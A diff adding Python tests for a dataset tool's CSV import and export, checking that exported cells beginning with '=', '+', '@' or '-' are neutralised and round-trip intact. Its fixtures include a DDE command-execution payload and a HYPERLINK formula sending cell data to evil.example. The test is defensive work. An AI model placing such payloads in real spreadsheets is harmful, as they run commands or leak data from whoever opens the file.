@@ -78,6 +78,69 @@ def test_import_export_round_trip_loses_nothing(db_alias, example_path, tmp_path
     assert (original.report, original.settings, original.areas) == (exported.report, exported.settings, exported.areas)
 
 
+FORMULA_TITLE = "=cmd|' /C calc'!A0"
+FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+LITERAL_NOTE = "'=already quoted by someone"
+
+
+def _with_formula_like_text(example_copy: Path) -> None:
+    """A risk title and notes a spreadsheet would run, one value that starts with the apostrophe itself,
+    and a negative number (a real -3 must stay a number)."""
+    risks = example_copy / "risks.csv"
+    rows = risks.read_text(encoding="utf-8").splitlines()
+    head = rows[0].split(",")
+    first = rows[1].split(",")
+    first[head.index("title")] = '"' + FORMULA_TITLE.replace('"', '""') + '"'
+    rows[1] = ",".join(first)
+    risks.write_text("\n".join(rows) + "\n", encoding="utf-8")
+    obs = example_copy / "observations.csv"
+    rows = obs.read_text(encoding="utf-8").splitlines()
+    rows[1] = rows[1][: -len(",,")] + ',"' + FORMULA_NOTE.replace('"', '""') + '",'
+    rows[2] = rows[2][: -len(",,")] + ",''=already quoted by someone,"  # a note that starts with '=
+    rows[3] = rows[3][: -len(",,")] + ",@SUM(1+1),"
+    rows[4] = rows[4][: -len(",,")] + ",-3 fewer than last year,"
+    obs.write_text("\n".join(rows) + "\n", encoding="utf-8")
+
+
+def test_export_neutralises_formula_like_text_and_the_round_trip_keeps_it(db_alias, example_copy, tmp_path):
+    # Given a dataset whose risk title and notes start with '=' and '@', one note that starts with an
+    # apostrophe already, and figures (one negative)
+    _with_formula_like_text(example_copy)
+    obs = example_copy / "observations.csv"
+    obs.write_text(obs.read_text(encoding="utf-8").replace("child-protection,E10000009,2012-13,53.8,",
+                                                           "child-protection,E10000009,2012-13,-3,", 1),
+                   encoding="utf-8")
+    original = load_dataset(example_copy)
+    assert original.risks[0].title == FORMULA_TITLE
+    runner = CliRunner()
+    assert runner.invoke(main, ["import", str(example_copy)]).exit_code == 0
+    out = tmp_path / "exported"
+    # When it is exported as a dataset folder
+    result = runner.invoke(main, ["export", str(out), "--outcome", "safe", "--period", "Q4 2017-18"])
+    assert result.exit_code == 0, result.output
+    # Then no cell of the CSV files starts with a formula character, except a plain number
+    import csv
+
+    for name in ("observations.csv", "risks.csv"):
+        with (out / name).open(encoding="utf-8", newline="") as fh:
+            for row in csv.reader(fh):
+                for cell in row:
+                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
+                    assert not cell.startswith("-") or float(cell) < 0, (name, cell)
+    text = (out / "risks.csv").read_text(encoding="utf-8")
+    assert "'=cmd|" in text
+    exported_obs = (out / "observations.csv").read_text(encoding="utf-8")
+    assert "'=HYPERLINK" in exported_obs and "''=already quoted" in exported_obs and "'@SUM" in exported_obs
+    assert ",-3," in exported_obs and "'-3 fewer" in exported_obs
+    # and loading the export gives back exactly what was imported
+    exported = load_dataset(out)
+    assert differences(plain(original), plain(exported)) == []
+    assert exported.risks[0].title == FORMULA_TITLE
+    notes = [o.note for o in exported.series_by_id()["child-protection"].observations]
+    assert notes[:4] == [FORMULA_NOTE, LITERAL_NOTE, "@SUM(1+1)", "-3 fewer than last year"]
+    assert exported.series_by_id()["child-protection"].observations[0].value == -3
+
+
 def test_rebuilt_framework_equals_the_original_including_origins(db_alias, example_path):
     dataset = adapter.load_dataset(example_path)
     stored = adapter.store_framework(dataset)
@@ -127,6 +190,23 @@ def test_import_of_a_broken_dataset_writes_nothing(db_alias, example_copy):
     assert "Nothing was written" in output
     assert "observations.csv, row 2 [period]" in output and "'nope' is not a series" in output
     assert (m.Snapshot.objects.count(), m.ImportRecord.objects.count(), m.Observation.objects.count()) == before
+
+
+def test_import_of_a_file_with_thousands_of_problems_prints_a_count_by_kind_and_lists_them(db_alias, example_copy,
+                                                                                           tmp_path):
+    obs = Path(example_copy) / "observations.csv"
+    rows = [f"nope{n},E10000009,2017-18,1" for n in range(5000)]
+    obs.write_text("series,area,period,value\n" + "\n".join(rows) + "\n", encoding="utf-8")
+    listing = tmp_path / "problems.txt"
+    before = m.Snapshot.objects.count()
+    result = CliRunner().invoke(main, ["import", str(example_copy), "--problems", str(listing)])
+    assert result.exit_code == 2 and "Nothing was written" in result.output
+    assert len(result.output.splitlines()) < 40, len(result.output.splitlines())
+    assert "5000 × observations.csv: '…' is not a series in framework.yaml." in result.output
+    assert f"Every problem is listed in {listing}" in result.output
+    written = listing.read_text(encoding="utf-8").splitlines()
+    assert sum("is not a series" in line for line in written) == 5000
+    assert m.Snapshot.objects.count() == before
 
 
 def test_export_refuses_a_folder_that_is_not_a_dataset(db_alias, tmp_path):
